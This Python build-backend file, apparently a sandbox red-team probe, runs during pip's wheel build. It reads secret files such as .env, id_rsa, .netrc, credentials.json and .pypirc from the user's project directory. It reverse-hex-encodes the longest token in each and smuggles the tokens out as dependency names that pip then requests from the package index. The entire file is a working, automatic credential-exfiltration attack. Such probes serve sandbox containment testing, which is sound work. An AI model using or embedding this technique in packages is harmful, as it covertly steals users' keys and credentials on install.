# Probe A5: secret-looking files in the user's current directory (pip's
# cwd, visible read-only in the jail; the build profile allows $CWD/**).
# Each file's secret, reversed then hex, leaves in a dependency name.
# (The venv's parent is taken for pip's cwd: the usual project/.venv.)
import os, re, sys
sys.path.insert(0, os.path.dirname(__file__))
import wheelkit

NAME, VER = "rt1-cwd-secrets", "1.0"

def _reqs():
    cwd = os.path.dirname(sys.prefix)   # the project dir holding the venv (pip's cwd; /proc/PPID/cwd is refused)
    out = []
    for i, fn in enumerate((".env", "id_rsa", ".netrc", "credentials.json", ".pypirc", "secrets.txt"), 1):
        try:
            t = open(os.path.join(cwd, fn)).read()
            m = re.findall(r"[A-Za-z0-9]{12,}", t)
            v = max(m, key=len)[::-1].encode().hex() if m else "empty"
        except Exception as e:
            v = "err" + type(e).__name__
        out.append(f"rt1cwd{i}-{v}")
    return out

def get_requires_for_build_wheel(config_settings=None):
    return []

def prepare_metadata_for_build_wheel(md_dir, config_settings=None):
    return wheelkit.write_metadata(md_dir, NAME, VER, _reqs())

def build_wheel(wheel_dir, config_settings=None, metadata_directory=None):
    return wheelkit.write_wheel(wheel_dir, NAME, VER, {"rt1_cwd.py": b""}, _reqs())
